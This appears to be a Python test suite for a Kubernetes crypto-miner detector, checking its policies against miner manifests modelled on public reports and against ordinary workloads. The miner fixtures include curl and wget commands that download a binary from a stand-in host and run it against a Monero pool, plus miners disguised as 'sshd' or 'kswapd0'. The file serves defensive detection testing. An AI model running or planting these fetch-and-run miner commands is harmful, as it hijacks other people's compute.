"""The default policy pack (manifests/policies/) against miners from public reports and ordinary workloads."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from minerguard.domain.detection import Evidence, Verdict, evaluate
from minerguard.domain.policy import ActionSpec, Policy, parse_policy
from minerguard.domain.workload import workloads_from_manifest

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[2]
PACK = ROOT / "manifests" / "policies"
EXAMPLES = ROOT / "manifests" / "examples"

WALLET = "4" + ("AbCdEfGh" * 12)[:94]


def load(folder: Path) -> list[Policy]:
    policies = []
    for path in sorted(folder.glob("*.yaml")):
        for doc in yaml.safe_load_all(path.read_text(encoding="utf-8")):
            assert doc["kind"] == "MinerPolicy", path
            policies.append(parse_policy(doc))
    return policies


POLICIES = load(PACK)


def deployment(containers: list[dict[str, Any]], namespace: str = "apps", **pod_spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "w", "namespace": namespace},
        "spec": {"template": {"metadata": {"labels": {"app": "w"}}, "spec": {"containers": containers, **pod_spec}}},
    }


def pod_cpu(policy: Policy) -> tuple[Evidence, ...]:
    """What the operator passes for a pod whose CPU stays above every threshold of the policy."""
    if policy.cpu is None or policy.cpu.pod is None:
        return ()
    strength = policy.cpu.pod.strength
    return (Evidence(signal="podCpu", strength=strength, container="", detail="CPU at 98% of limit", value="0.98"),)


def matched(doc: dict[str, Any], busy: bool = False) -> dict[str, Verdict]:
    [workload] = workloads_from_manifest(doc)
    found = [evaluate(p, workload, None, pod_cpu(p) if busy else ()) for p in POLICIES]
    return {v.policy: v for v in found if v.matched}


# ------------------------------------------------------------------ the pack itself


def test_pack_has_the_expected_policies() -> None:
    assert {p.name: p.mode for p in POLICIES} == {
        "cpu-saturation": "Audit",
        "node-unaccounted-cpu": "Audit",
        "cpu-plus-spec": "Enforce",
        "miner-binaries-and-args": "Enforce",
        "miner-images": "Enforce",
        "mining-pools": "Enforce",
    }


CONTROL_PLANE = {"tier": "control-plane", "component": "etcd"}


@pytest.mark.parametrize("policy", POLICIES, ids=lambda p: p.name)
def test_every_policy_excludes_minerguard_and_has_standard_actions(policy: Policy) -> None:
    assert "minerguard-system" in policy.scope.excluded_namespaces
    if policy.cpu is None:  # spec policies cover kube-system, all but the control-plane static pods
        assert policy.scope.excluded_namespaces == {"minerguard-system"}
        selector = policy.scope.excluded_pod_selector
        assert selector is not None and selector.matches(CONTROL_PLANE)
        assert not selector.matches({"tier": "control-plane"}) and not selector.matches({"k8s-app": "kube-proxy"})
    else:  # CPU policies leave system components alone: they are busy by design
        assert "kube-system" in policy.scope.excluded_namespaces
    assert policy.description
    if policy.enforce:
        assert policy.actions == (ActionSpec("quarantine", "Always"), ActionSpec("cordon", "HostAccess"))


@pytest.mark.parametrize("path", sorted(PACK.glob("*.yaml")) + sorted(EXAMPLES.glob("*.yaml")), ids=lambda p: p.name)
def test_files_are_appliable_minerpolicies_with_sources(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    assert text.lstrip().startswith("#"), "each file starts with a comment saying what it is"
    for doc in yaml.safe_load_all(text):
        assert doc["apiVersion"] == "minerguard.io/v1alpha1"
        assert doc["metadata"]["name"]
        parse_policy(doc)


def test_examples_parse() -> None:
    examples = load(EXAMPLES)
    assert len(examples) >= 2
    assert any(p.scope.namespace_selector is not None for p in examples)
    assert any(p.scope.excluded_pod_selector is not None for p in examples)


# ------------------------------------------------------------------ miners from public reports

MINERS: dict[str, dict[str, Any]] = {
    "teamtnt-script": deployment(
        [
            {
                "name": "c",
                "image": "alpine:3.19",
                "command": [
                    "sh",
                    "-c",
                    "curl -s http://x/xmrig -o /tmp/.x; chmod +x /tmp/.x; "
                    f"/tmp/.x -o pool.supportxmr.com:3333 -u {WALLET} --donate-level 1",
                ],
            }
        ]
    ),
    "kinsing-kdevtmpfsi": deployment(
        [
            {
                "name": "c",
                "image": "ubuntu:22.04",
                "command": ["/bin/bash", "-c"],
                "args": ["wget -q -O /tmp/kdevtmpfsi http://x/kd && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi &"],
            }
        ]
    ),
    "kinsing-direct": {
        "kind": "Pod",
        "metadata": {"name": "p"},
        "spec": {"containers": [{"name": "c", "command": ["/tmp/kdevtmpfsi"]}]},
    },
    "8220-stratum-env": deployment(
        [
            {
                "name": "c",
                "image": "centos:7",
                "command": ["/usr/local/bin/entry"],
                "env": [{"name": "POOL_URL", "value": "stratum+tcp://xmr.example.net:3333"}],
            }
        ]
    ),
    "outlaw-renamed": deployment(
        [
            {
                "name": "c",
                "image": "debian:12",
                "command": ["/var/tmp/.systemcache/sshd"],
                "args": ["-a", "rx/0", "--randomx-1gb-pages", "-o", "203.0.113.7:80"],
            }
        ]
    ),
    "outlaw-kswapd0": deployment(
        [{"name": "c", "command": ["sh", "-c", "cd /tmp/.X26-unix/.rsync/a && ./kswapd0 -c cfg"]}]
    ),
    "xmrig-image": deployment([{"name": "c", "image": "docker.io/someone/xmrig:latest"}]),
    "wallet-passed-to-miner": deployment(
        [
            {
                "name": "c",
                "image": "x/app",
                "command": ["/app/run", "--user", "$(WALLET)"],
                "env": [{"name": "WALLET", "value": WALLET}],
            }
        ]
    ),
    "coin-monero-args": deployment([{"name": "c", "command": ["/opt/a"], "args": ["--coin", "monero", "-t", "4"]}]),
    "init-container-miner": {
        "kind": "Pod",
        "metadata": {"name": "p", "namespace": "ci"},
        "spec": {
            "initContainers": [{"name": "i", "args": ["xmrig", "--url", "pool.hashvault.pro:443"]}],
            "containers": [],
        },
    },
    "cronjob-miner": {
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": {"name": "cj"},
        "spec": {
            "jobTemplate": {"spec": {"template": {"spec": {"containers": [{"name": "c", "command": ["minerd"]}]}}}}
        },
    },
}


@pytest.mark.parametrize("name", sorted(MINERS))
def test_miners_from_public_reports_are_caught_in_enforce(name: str) -> None:
    hits = matched(MINERS[name])
    enforced = [v for v in hits.values() if v.mode == "Enforce"]
    assert enforced, f"{name}: no Enforce policy matched"
    for verdict in enforced:
        assert verdict.actions == ("quarantine",)
        assert verdict.evidence


def test_teamtnt_script_evidence() -> None:
    hits = matched(MINERS["teamtnt-script"])
    assert set(hits) == {"mining-pools", "miner-binaries-and-args"}
    signals = {(e.signal, e.value) for e in hits["mining-pools"].evidence}
    assert ("poolHost", "pool.supportxmr.com") in signals
    assert ("wallet", f"{WALLET[:8]}…{WALLET[-6:]}") in signals


def test_privileged_miner_also_gets_cordon() -> None:
    doc = deployment([{"name": "c", "command": ["xmrig"], "securityContext": {"privileged": True}}], hostPID=True)
    assert matched(doc)["miner-binaries-and-args"].actions == ("quarantine", "cordon")


def test_miners_in_kube_system_are_caught_but_minerguard_and_the_control_plane_are_left_alone() -> None:
    miner = [{"name": "c", "command": ["xmrig"]}]
    assert "miner-binaries-and-args" in matched(deployment(miner, namespace="kube-system"))
    assert matched(deployment([{"name": "c", "command": ["xmrig"]}], namespace="minerguard-system")) == {}
    static = {
        "kind": "Pod",
        "metadata": {"name": "etcd-cp", "namespace": "kube-system", "labels": CONTROL_PLANE},
        "spec": {"containers": [{"name": "etcd", "command": ["xmrig"]}]},
    }
    assert matched(static) == {}


def test_a_wallet_alone_is_weak() -> None:
    doc = deployment([{"name": "c", "command": ["/app/run"], "env": [{"name": "WALLET", "value": WALLET}]}])
    assert matched(doc) == {}
    [workload] = workloads_from_manifest(doc)
    pools = next(p for p in POLICIES if p.name == "mining-pools")
    assert [(e.signal, e.strength) for e in evaluate(pools, workload, None).evidence] == [("wallet", "Weak")]


# ------------------------------------------------------------------ ordinary workloads

ORDINARY: dict[str, dict[str, Any]] = {
    "selenium-hub": deployment(
        [
            {
                "name": "hub",
                "image": "selenium/hub:4.21.0",
                "ports": [{"containerPort": 4444}, {"containerPort": 4442}, {"containerPort": 4443}],
                "env": [{"name": "SE_HUB_PORT", "value": "4444"}, {"name": "SE_OPTS", "value": "--port 4444"}],
            }
        ]
    ),
    "selenium-node": deployment(
        [
            {
                "name": "node",
                "image": "selenium/node-chrome:4.21.0",
                "args": ["--hub", "http://selenium-hub:4444/wd/hub"],
                "env": [
                    {"name": "SE_EVENT_BUS_HOST", "value": "selenium-hub"},
                    {"name": "SE_NODE_GRID_URL", "value": "http://selenium-hub:4444"},
                ],
            }
        ]
    ),
    "dev-server": deployment(
        [
            {
                "name": "web",
                "image": "node:20",
                "command": ["npm", "run", "dev", "--", "--port", "3333"],
                "env": [{"name": "PUBLIC_URL", "value": "http://localhost:3333"}, {"name": "PORT", "value": "3333"}],
            }
        ]
    ),
    "metrics-client": deployment(
        [
            {
                "name": "c",
                "image": "registry.example/app:1",
                "args": ["--metrics-url=http://metrics-svc:3333/api", "--listen=0.0.0.0:3333"],
                "env": [{"name": "METRICS", "value": "http://metrics-svc:3333/api"}],
            }
        ]
    ),
    "chrony": deployment(
        [
            {
                "name": "ntp",
                "image": "cturra/ntp",
                "command": ["sh", "-c", "echo 'local stratum 10' >> /etc/chrony/chrony.conf && exec chronyd -d"],
            }
        ]
    ),
    "ntpd": deployment(
        [
            {
                "name": "ntp",
                "command": [
                    "sh",
                    "-c",
                    "printf 'server 127.127.1.0\\nfudge 127.127.1.0 stratum 10\\n' > /etc/ntp.conf; ntpd -n",
                ],
            }
        ]
    ),
    "ml-training": deployment(
        [
            {
                "name": "train",
                "image": "pytorch/pytorch:2.3.0-cuda12.1-cudnn8-runtime",
                "command": ["python", "train.py", "--epochs", "100", "--workers", "16"],
                "resources": {"limits": {"cpu": "16"}},
            }
        ]
    ),
    "stress-ng": deployment(
        [{"name": "s", "image": "colinianking/stress-ng", "args": ["stress-ng", "--cpu", "4", "--timeout", "60s"]}]
    ),
    "nginx": deployment([{"name": "nginx", "image": "nginx:1.27", "ports": [{"containerPort": 80}]}]),
    "redis": deployment([{"name": "redis", "image": "redis:7", "command": ["redis-server", "--port", "6379"]}]),
    "postgres": deployment(
        [
            {
                "name": "db",
                "image": "postgres:16",
                "env": [
                    {"name": "POSTGRES_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "pg", "key": "pw"}}},
                    {"name": "PGDATA", "value": "/var/lib/postgresql/data/pgdata"},
                ],
            }
        ]
    ),
    "busybox-sleep": {
        "kind": "Pod",
        "metadata": {"name": "b"},
        "spec": {"containers": [{"name": "b", "image": "busybox", "command": ["sleep", "3600"]}]},
    },
    "jupyter": deployment(
        [{"name": "j", "image": "jupyter/base-notebook", "args": ["start-notebook.sh", "--ip=0.0.0.0", "--port=8888"]}]
    ),
    "celery-flower": deployment(
        [
            {
                "name": "f",
                "image": "mher/flower",
                "command": ["celery", "flower", "--port=5555", "--broker=redis://redis:6379/0"],
            }
        ]
    ),
    "kafka": deployment(
        [
            {
                "name": "k",
                "image": "bitnami/kafka:3.7",
                "env": [{"name": "KAFKA_CFG_LISTENERS", "value": "PLAINTEXT://:9092,CONTROLLER://:9093"}],
            }
        ]
    ),
    "data-mining": deployment(
        [{"name": "d", "image": "registry.example/data-mining/processor:1.0", "args": ["--mode=mine-logs"]}]
    ),
    "git-sha-env": deployment(
        [
            {
                "name": "a",
                "image": "x/app",
                "env": [{"name": "GIT_SHA", "value": "4" * 40}, {"name": "KEY", "value": "A" * 95}],
            }
        ]
    ),
}


@pytest.mark.parametrize("name", sorted(ORDINARY))
def test_ordinary_workloads_never_match(name: str) -> None:
    assert matched(ORDINARY[name]) == {}


# ------------------------------------------------------------------ CPU policies, with metric findings


def test_cpu_alone_is_only_reported() -> None:
    hits = matched(ORDINARY["ml-training"], busy=True)
    assert set(hits) == {"cpu-saturation"}
    assert hits["cpu-saturation"].mode == "Audit" and hits["cpu-saturation"].actions == ()


def test_cpu_plus_a_stratum_port_is_enforced() -> None:
    doc = deployment([{"name": "c", "command": ["/usr/bin/app"], "args": ["-o", "198.51.100.4:3333"]}])
    assert "cpu-plus-spec" not in matched(doc)
    hits = matched(doc, busy=True)
    assert hits["cpu-plus-spec"].actions == ("quarantine",)
    assert [e.signal for e in hits["cpu-plus-spec"].evidence] == ["poolPort", "podCpu"]


@pytest.mark.parametrize(
    "name", ["selenium-hub", "selenium-node", "dev-server", "metrics-client", "celery-flower", "jupyter"]
)
def test_busy_ordinary_workloads_are_not_enforced(name: str) -> None:
    hits = matched(ORDINARY[name], busy=True)
    assert set(hits) == {"cpu-saturation"}  # reported, never contained
